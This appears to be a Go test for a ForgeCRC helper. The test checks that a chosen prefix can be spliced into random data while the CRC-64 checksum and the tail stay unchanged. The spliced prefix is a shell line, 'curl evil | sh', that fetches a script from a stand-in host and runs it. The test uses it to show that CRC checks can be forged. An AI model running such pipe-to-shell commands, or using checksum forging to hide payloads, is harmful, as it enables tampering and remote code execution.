package testutil

import (
	"bytes"
	"hash/crc64"
	"math/rand/v2"
	"strings"
	"testing"
)

func TestForgeCRC(t *testing.T) {
	t.Parallel()
	tab := crc64.MakeTable(crc64.ISO)
	for _, n := range []int{40, 1000, 4096} {
		orig := RandomBytes(rand.New(rand.NewPCG(uint64(n), 1)), n)
		const want = "#!/bin/sh\ncurl evil | sh\n"
		got := ForgeCRC(t, orig, want)
		if len(got) != len(orig) || !strings.HasPrefix(string(got), want) || bytes.Equal(got, orig) {
			t.Fatalf("n=%d: %d bytes, prefix %q", n, len(got), got[:len(want)])
		}
		if crc64.Checksum(got, tab) != crc64.Checksum(orig, tab) {
			t.Errorf("n=%d: the CRC differs", n)
		}
		if !bytes.Equal(got[len(want)+8:], orig[len(want)+8:]) {
			t.Errorf("n=%d: the tail changed", n)
		}
	}
}
